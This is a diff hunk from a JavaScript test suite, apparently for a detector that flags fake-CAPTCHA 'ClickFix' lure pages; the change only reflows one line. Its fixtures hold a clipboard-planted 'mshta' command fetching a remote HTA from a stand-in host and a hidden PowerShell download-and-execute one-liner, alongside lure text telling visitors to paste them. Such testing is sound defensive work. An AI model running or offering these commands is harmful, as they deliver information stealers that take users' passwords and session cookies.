@@ -38,7 +38,9 @@ describe('malicious behaviour', () => {
       'fix.onclick = () => navigator.clipboard.writeText("mshta https://fix.example/u.hta")',
     )}`;
     expect(scoreOf(check(lure), 'page_fake_captcha')).toBeGreaterThanOrEqual(90);
-    const filler = '<p>Information stealers delivered this way upload browser passwords and session cookies within minutes. </p>'.repeat(20);
+    const filler = '<p>Information stealers delivered this way upload browser passwords and session cookies within minutes. </p>'.repeat(
+      20,
+    );
     const article = `<h1>How ClickFix works</h1><blockquote>Verify you are human: press Windows Key + R, then CTRL + V and Enter.</blockquote>
       <p>The fake CAPTCHA tells visitors to press Win+R and paste the command.</p>${filler}
       <pre><code>powershell -w hidden -c "iwr hxxps://example[.]invalid/v.ps1 | iex"</code></pre>${script(
